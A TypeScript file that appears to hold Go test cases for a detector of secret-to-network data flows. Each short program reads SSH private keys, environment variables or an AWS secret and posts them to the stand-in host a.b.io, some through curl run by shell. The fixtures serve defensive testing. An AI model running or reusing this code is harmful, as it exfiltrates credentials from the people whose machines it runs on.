import type { Constructs } from './constructs.js';

export const GO: Constructs = {
  language: 'go',
  head: '',
  cases: [
    [
      'plain',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nb,_:=os.ReadFile(K)\nhttp.Post(U,"text/plain",strings.NewReader(string(b)))\n}\n',
    ],
    [
      'bytes',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nb,_:=os.ReadFile(K)\nhttp.Post(U,"x",bytes.NewReader(b))\n}\n',
    ],
    [
      'open',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nf,_:=os.Open(K)\nhttp.Post(U,"x",f)\n}\n',
    ],
    [
      'defer open',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nf,err:=os.Open(K)\nif err!=nil { return }\ndefer f.Close()\nhttp.Post(U,"x",f)\n}\n',
    ],
    [
      'readall',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nf,_:=os.Open(K)\nb,_:=io.ReadAll(f)\nhttp.Post(U,"text/plain",strings.NewReader(string(b)))\n}\n',
    ],
    [
      'newrequest',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nb,_:=os.ReadFile(K)\nr,_:=http.NewRequest("POST",U,bytes.NewReader(b))\nhttp.DefaultClient.Do(r)\n}\n',
    ],
    [
      'client',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nb,_:=os.ReadFile(K)\nc:=&http.Client{}\nc.Post(U,"x",bytes.NewReader(b))\n}\n',
    ],
    [
      'postform',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nb,_:=os.ReadFile(K)\nhttp.PostForm(U,map[string][]string{"t":{string(b)}})\n}\n',
    ],
    [
      'func',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\nfunc read() []byte { b,_:=os.ReadFile(K); return b }\nfunc send(b []byte) { http.Post(U,"x",bytes.NewReader(b)) }\nfunc main() {\nsend(read())\n}\n',
    ],
    [
      'multi return',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\nfunc read() ([]byte,error) { return os.ReadFile(K) }\nfunc main() {\nb,err:=read()\nif err==nil { http.Post(U,"x",bytes.NewReader(b)) }\n}\n',
    ],
    [
      'struct',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\ntype Info struct { T string }\nfunc read() string { b,_:=os.ReadFile(K); return string(b) }\nfunc main() {\ni:=Info{T:read()}\nb,_:=json.Marshal(i)\nhttp.Post(U,"x",bytes.NewReader(b))\n}\n',
    ],
    [
      'struct ptr',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\ntype Info struct { T []byte }\nfunc (i *Info) load() { i.T,_=os.ReadFile(K) }\nfunc (i *Info) send() { http.Post(U,"x",bytes.NewReader(i.T)) }\nfunc main() {\ni:=&Info{}\ni.load()\ni.send()\n}\n',
    ],
    [
      'interface',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\ntype S interface { Read() []byte }\ntype A struct{}\nfunc (A) Read() []byte { b,_:=os.ReadFile(K); return b }\nfunc main() {\nvar s S=A{}\nhttp.Post(U,"x",bytes.NewReader(s.Read()))\n}\n',
    ],
    [
      'closure',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nb,_:=os.ReadFile(K)\nf:=func() { http.Post(U,"x",bytes.NewReader(b)) }\nf()\n}\n',
    ],
    [
      'goroutine',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\nfunc read() []byte { b,_:=os.ReadFile(K); return b }\nfunc main() {\ngo func(b []byte) { http.Post(U,"x",bytes.NewReader(b)) }(read())\n}\n',
    ],
    [
      'channel',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nc:=make(chan []byte)\ngo func() { b,_:=os.ReadFile(K); c<-b }()\nhttp.Post(U,"x",bytes.NewReader(<-c))\n}\n',
    ],
    [
      'range chan',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nc:=make(chan []byte)\ngo func() { for b := range c { http.Post(U,"x",bytes.NewReader(b)) } }()\nb,_:=os.ReadFile(K)\nc<-b\n}\n',
    ],
    [
      'map',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nm:=map[string]string{}\nb,_:=os.ReadFile(K)\nm["t"]=string(b)\nj,_:=json.Marshal(m)\nhttp.Post(U,"x",bytes.NewReader(j))\n}\n',
    ],
    [
      'map any',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nb,_:=os.ReadFile(K)\nj,_:=json.Marshal(map[string]any{"t":string(b)})\nhttp.Post(U,"x",bytes.NewReader(j))\n}\n',
    ],
    [
      'append',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nvar a []string\nb,_:=os.ReadFile(K)\na=append(a,string(b))\nhttp.Post(U,"text/plain",strings.NewReader(strings.Join(a,"")))\n}\n',
    ],
    [
      'builder',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nvar s strings.Builder\nb,_:=os.ReadFile(K)\ns.Write(b)\nhttp.Post(U,"text/plain",strings.NewReader(s.String()))\n}\n',
    ],
    [
      'buffer',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nvar s bytes.Buffer\nb,_:=os.ReadFile(K)\ns.Write(b)\nhttp.Post(U,"x",&s)\n}\n',
    ],
    [
      'fprintf',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nvar s bytes.Buffer\nb,_:=os.ReadFile(K)\nfmt.Fprintf(&s,"%s",b)\nhttp.Post(U,"x",&s)\n}\n',
    ],
    [
      'sprintf',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nb,_:=os.ReadFile(K)\nhttp.Post(U,"text/plain",strings.NewReader(fmt.Sprintf("%s",b)))\n}\n',
    ],
    [
      'range',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nfor _,k := range []string{K} {\nb,_:=os.ReadFile(k)\nhttp.Post(U,"x",bytes.NewReader(b))\n}\n}\n',
    ],
    [
      'glob',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nfs,_:=filepath.Glob("/root/.ssh/*")\nfor _,f:=range fs {\nb,_:=os.ReadFile(f)\nhttp.Post(U,"x",bytes.NewReader(b))\n}\n}\n',
    ],
    [
      'walk',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nfilepath.Walk("/root/.ssh",func(p string,i os.FileInfo,e error) error {\nb,_:=os.ReadFile(p)\nhttp.Post(U,"x",bytes.NewReader(b))\nreturn nil\n})\n}\n',
    ],
    [
      'home join',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nh,_:=os.UserHomeDir()\nb,_:=os.ReadFile(filepath.Join(h,".ssh","id_rsa"))\nhttp.Post(U,"x",bytes.NewReader(b))\n}\n',
    ],
    [
      'scanner',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nf,_:=os.Open(K)\ns:=bufio.NewScanner(f)\nfor s.Scan() {\nhttp.Post(U,"text/plain",strings.NewReader(s.Text()))\n}\n}\n',
    ],
    [
      'exec',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\no,_:=exec.Command("cat",K).Output()\nhttp.Post(U,"x",bytes.NewReader(o))\n}\n',
    ],
    [
      'exec sh',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nexec.Command("sh","-c","curl -d @"+K+" "+U).Run()\n}\n',
    ],
    [
      'base64',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nb,_:=os.ReadFile(K)\nhttp.Post(U,"text/plain",strings.NewReader(base64.StdEncoding.EncodeToString(b)))\n}\n',
    ],
    [
      'environ',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nhttp.Post(U,"text/plain",strings.NewReader(strings.Join(os.Environ(),"\\n")))\n}\n',
    ],
    [
      'getenv',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nhttp.Post(U,"text/plain",strings.NewReader(os.Getenv("AWS_SECRET_ACCESS_KEY")))\n}\n',
    ],
    [
      'if init',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nif b,err:=os.ReadFile(K); err==nil {\nhttp.Post(U,"x",bytes.NewReader(b))\n}\n}\n',
    ],
    [
      'switch',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nvar b []byte\nswitch {\ncase true:\nb,_=os.ReadFile(K)\ndefault:\nb=nil\n}\nhttp.Post(U,"x",bytes.NewReader(b))\n}\n',
    ],
    [
      'defer',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\n\nfunc main() {\nb,_:=os.ReadFile(K)\ndefer http.Post(U,"x",bytes.NewReader(b))\n}\n',
    ],
    [
      'func var',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\nfunc send(f func(string) ([]byte,error)) { b,_:=f(K); http.Post(U,"x",bytes.NewReader(b)) }\nfunc main() {\nsend(os.ReadFile)\n}\n',
    ],
    [
      'variadic',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\nfunc read() []byte { b,_:=os.ReadFile(K); return b }\nfunc send(b ...byte) { http.Post(U,"x",bytes.NewReader(b)) }\nfunc main() {\nsend(read()...)\n}\n',
    ],
    [
      'global var',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\nvar T []byte\nfunc send() { http.Post(U,"x",bytes.NewReader(T)) }\nfunc main() {\nT,_=os.ReadFile(K)\nsend()\n}\n',
    ],
    [
      'init',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\nfunc init() { b,_:=os.ReadFile(K); http.Post(U,"x",bytes.NewReader(b)) }\nfunc main() {\n\n}\n',
    ],
    [
      'embedded',
      'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\ntype B struct { T []byte }\nfunc (b *B) send() { http.Post(U,"x",bytes.NewReader(b.T)) }\ntype A struct { B }\nfunc main() {\na:=A{}\na.T,_=os.ReadFile(K)\na.send()\n}\n',
    ],
    [
      'struct without names of fields',
      'package main\nimport ("net/http";"os";"bytes")\nconst K="/root/.ssh/id_rsa"\ntype I struct { p string }\nfunc (i I) load() []byte { b,_:=os.ReadFile(i.p); return b }\nfunc (i I) ship() { http.Post("https://a.b.io/x","x",bytes.NewReader(i.load())) }\nfunc main() {\ni:=I{K}\ni.ship()\n}\n',
    ],
    [
      'struct that a function makes',
      'package main\nimport ("net/http";"os";"bytes")\nconst K="/root/.ssh/id_rsa"\ntype Up struct { url string; c http.Client }\nfunc NewUp() *Up { return &Up{"https://a.b.io/x", http.Client{}} }\nfunc (u *Up) Put(b []byte) { u.c.Post(u.url, "x", bytes.NewReader(b)) }\nfunc main() {\nb,_:=os.ReadFile(K)\nNewUp().Put(b)\n}\n',
    ],
    [
      'mapping in a struct',
      'package main\nimport ("net/http";"os";"bytes")\nconst K="/root/.ssh/id_rsa"\ntype Inv struct { Facts map[string]string }\nfunc Load() *Inv {\ninv := &Inv{Facts: map[string]string{}}\nb,_:=os.ReadFile(K)\ninv.Facts["x"] = string(b)\nreturn inv\n}\nfunc main() {\ninv := Load()\nhttp.Post("https://a.b.io/x","x",bytes.NewReader([]byte(inv.Facts["x"])))\n}\n',
    ],
  ],
};
